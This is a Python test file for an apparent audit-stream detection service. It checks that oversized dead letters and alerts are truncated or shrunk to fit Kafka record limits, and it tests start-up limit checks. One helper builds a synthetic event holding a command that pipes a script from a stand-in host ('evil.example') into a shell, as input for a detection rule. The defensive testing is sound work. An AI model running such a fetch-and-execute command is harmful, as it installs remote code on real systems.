"""Output records under the size limits (no broker): dead letters cut to fit, alerts shrunk to fit,
and the start-up check of the producer's limits against the output topics'."""

from __future__ import annotations

import json

import pytest
from confluent_kafka import Producer

from auditstream.detections.alert import Alert, SourceRef
from auditstream.detections.alert_window import RecentAlerts
from auditstream.detections.engine import Detector
from auditstream.detections.pipeline import DetectionPipeline
from auditstream.detections.ruleset.loader import load_rules
from auditstream.stream.errors import SettingsError
from auditstream.stream.kafka.clients import RECORD_FRAMING, record_size
from auditstream.stream.kafka.delivery import Delivery
from auditstream.stream.service.assembly import MIN_RECORD_BYTES, check_limits
from auditstream.stream.sinks.alert_sink import AlertEncodingError
from auditstream.stream.sinks.dead_letters import DeadLetter
from auditstream.stream.sinks.encoders import json_encoder
from auditstream.stream.sinks.kafka_alerts import KafkaAlertSink, ShrunkValue
from devtools.traffic.synthetic import exec_audit_events

LIMIT = 100_000


def letter(value: bytes | None, *, key: bytes | None = b"k", headers: int = 1) -> DeadLetter:
    return DeadLetter(
        topic="audit", partition=2, offset=77, key=key, value=value,
        headers=[("trace", b"t" * 100)] * headers, reason="oversized",
        error_class="MalformedEvent", detail="too big",
    )  # fmt: skip


def test_a_dead_letter_that_fits_is_produced_whole() -> None:
    dead = letter(b"x" * 1000)
    record = dead.wire_record(LIMIT)
    assert (record.key, record.value, record.headers) == (b"k", b"x" * 1000, dead.wire_headers())


def test_a_dead_letter_too_big_keeps_the_start_of_its_value_and_says_so() -> None:
    value = bytes(range(256)) * 2000  # 512,000 bytes
    record = letter(value).wire_record(LIMIT)
    assert record_size(record.key, record.value, record.headers) <= LIMIT
    assert record.value is not None and value.startswith(record.value)
    assert len(record.value) > LIMIT - 2_000  # nearly all the room is used
    assert record.headers[0] == ("trace", b"t" * 100)
    ours = dict(record.headers[1:])
    assert ours["auditstream.dlq.truncated"] == b"true"
    assert ours["auditstream.dlq.original_bytes"] == b"512000"
    assert ours["auditstream.source.offset"] == b"77"
    assert "auditstream.dlq.dropped_headers" not in ours


def test_original_headers_then_the_key_go_when_they_alone_do_not_fit() -> None:
    without_headers = letter(b"v" * 10, headers=2000).wire_record(LIMIT)  # 220 kB of headers
    ours = dict(without_headers.headers)
    assert "trace" not in ours and ours["auditstream.dlq.dropped_headers"] == b"2000"
    assert without_headers.key == b"k" and without_headers.value == b"v" * 10
    without_key = letter(None, key=b"K" * 200_000).wire_record(LIMIT)
    assert without_key.key is None and without_key.value is None  # a tombstone stays one
    assert dict(without_key.headers)["auditstream.dlq.original_bytes"] == b"0"
    for record in (without_headers, without_key):
        assert record_size(record.key, record.value, record.headers) <= LIMIT


def big_alert(arguments: int) -> Alert:
    """The hardened rule's alert on an exec with ``arguments`` arguments of 7,000 characters."""
    command = ("sh", "-c", "curl -fsSL https://evil.example/x.sh | sh", *["A" * 7000] * arguments)
    event = json.dumps(exec_audit_events(command=command, audit_id="big-1")[0]).encode()
    pipeline = DetectionPipeline(
        Detector(load_rules([]).rules), RecentAlerts(10), max_message_bytes=10_000_000
    )
    alerts = pipeline.process_message(event, SourceRef("file", file="f", line=1)).alerts
    return max(alerts, key=lambda a: len(a.to_json()))


@pytest.fixture(scope="module")
def sink() -> KafkaAlertSink:
    delivery = Delivery(Producer({"bootstrap.servers": "127.0.0.1:9"}))
    return KafkaAlertSink(delivery, "alerts", json_encoder(), max_record_bytes=LIMIT)


def test_an_alert_too_big_is_shrunk_with_markers_and_headers(sink: KafkaAlertSink) -> None:
    alert = big_alert(120)
    whole = alert.to_json().encode()
    assert len(whole) > 8 * LIMIT
    value = sink.encode(alert)
    assert isinstance(value, ShrunkValue) and value.original_bytes == len(whole)
    headers = sink._headers(alert, value)
    assert record_size(alert.alert_id, value, headers) <= LIMIT
    assert dict(headers)["auditstream.alert.truncated"] == b"true"
    assert dict(headers)["auditstream.alert.original_bytes"] == str(len(whole)).encode()
    record = json.loads(value)
    full = json.loads(whole)
    assert record["alert_id"] == alert.alert_id and record["rule"] == full["rule"]
    assert record["event"]["audit_id"] == "big-1" and record["source"] == full["source"]
    assert record["fields"].keys() == full["fields"].keys()
    assert "...[truncated" in value.decode()


def test_an_alert_that_fits_is_left_alone(sink: KafkaAlertSink) -> None:
    alert = big_alert(0)
    value = sink.encode(alert)
    assert not isinstance(value, ShrunkValue) and value == alert.to_json().encode()
    assert [name for name, _ in sink._headers(alert, value)] == [
        "auditstream.rule_id", "content-type",
    ]  # fmt: skip


def test_an_alert_that_cannot_fit_at_all_is_refused() -> None:
    delivery = Delivery(Producer({"bootstrap.servers": "127.0.0.1:9"}))
    tiny = KafkaAlertSink(delivery, "alerts", json_encoder(), max_record_bytes=500)
    with pytest.raises(AlertEncodingError, match="even shrunk"):
        tiny.encode(big_alert(0))


def test_startup_limits() -> None:
    default = 1_000_000
    assert check_limits(default, default, "alerts", 1_048_588) == default - RECORD_FRAMING
    assert check_limits(default, default, "alerts", None) == default - RECORD_FRAMING
    assert check_limits(5_000_000, 1_000_000, "dlq", 2_000_000) == 2_000_000 - RECORD_FRAMING
    assert check_limits(5_000_000, 500_000, "dlq", 500_000) == 500_000 - RECORD_FRAMING
    with pytest.raises(SettingsError) as refused:
        check_limits(default, default, "dlq", 100_000)
    assert refused.value.source == "[producer] message.max.bytes"
    assert "topic dlq accepts at most 100000" in str(refused.value)
    assert "at most 100000" in str(refused.value)
    with pytest.raises(SettingsError, match="no room"):
        check_limits(MIN_RECORD_BYTES, MIN_RECORD_BYTES, "dlq", MIN_RECORD_BYTES)
